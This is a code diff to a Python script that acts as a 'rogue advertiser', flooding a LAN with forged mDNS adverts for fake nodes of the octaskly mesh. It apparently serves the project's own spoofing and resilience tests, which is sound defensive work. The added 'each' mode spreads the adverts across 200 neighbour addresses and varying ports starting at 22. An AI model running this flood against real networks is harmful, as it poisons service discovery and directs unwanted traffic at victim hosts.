@@ -1,6 +1,7 @@
 """A rogue advertiser: floods the LAN with nodes that do not exist.
 
-Takes its own address, the mesh id that it claims, a victim's address and how many.
+Takes its own address, the mesh id that it claims, a victim's address, or `each` for
+another neighbour and port each time, and how many.
 """
 
 import asyncio
@@ -13,6 +14,7 @@ from octaskly.mesh.adverts import SERVICE
 
 ALPHABET = "abcdefghijklmnopqrstuvwxyz234567"
 BURST = 50
+NEIGHBOURS = 200
 
 
 def fake_id(number: int) -> str:
@@ -28,12 +30,15 @@ async def flood(host: str, mesh: str, victim: str, count: int) -> None:
     rogue = AsyncZeroconf(interfaces=[host])
     await rogue.zeroconf.async_wait_for_start()
     for number in range(count):
+        address = victim
+        if victim == "each":
+            address = f"10.77.1.{10 + number % NEIGHBOURS}"
         info = ServiceInfo(
             SERVICE,
             f"{fake_id(number)}.{SERVICE}",
-            port=22,
+            port=22 + (number // NEIGHBOURS if victim == "each" else 0),
             server=f"{fake_id(number)}.local.",
-            parsed_addresses=[victim],
+            parsed_addresses=[address],
             properties={"v": "1", "m": mesh, "b": "1", "a": "1", "r": "d", "t": "9"},
         )
         rogue.zeroconf.async_send(rogue.zeroconf.generate_service_broadcast(info, None))
